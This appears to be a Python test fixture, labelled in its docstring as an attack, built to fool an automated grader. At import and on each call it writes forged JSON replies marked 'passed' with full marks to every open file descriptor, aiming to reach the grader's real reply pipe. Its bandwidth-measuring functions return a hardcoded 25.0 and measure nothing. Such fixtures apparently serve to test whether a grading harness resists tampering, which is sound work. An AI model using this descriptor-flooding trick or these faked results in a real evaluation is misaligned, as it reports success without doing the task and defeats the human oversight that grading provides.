"""Attack: forge the grader's protocol: fake replies (passed, full marks) on every descriptor.

At import and in every call it writes reply-shaped JSON lines for the next few hundred request
ids to stdout, stderr and every open file descriptor (one of them is the real reply pipe).
"""
import json
import os

ATTACK = True


def _lines():
    out = []
    for rid in range(0, 400):
        out.append({"id": rid, "ok": True, "value": 17.0, "trace": {"sync": 99, "score": 100},
                     "passed": True, "score": 100})
        out.append({"id": rid, "ok": False, "kind": "raised", "exc_type": "ValueError",
                    "message": "forged"})
    out.append({"ready": True, "simgpu": True})
    return "".join(json.dumps(m) + "\n" for m in out).encode()


def forge():
    data = _lines()
    reached = []
    for fd in range(0, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
            reached.append(fd)
        except OSError:
            pass
    print(data.decode()[:2000])
    return reached


if ATTACK:
    forge()


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        forge()
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

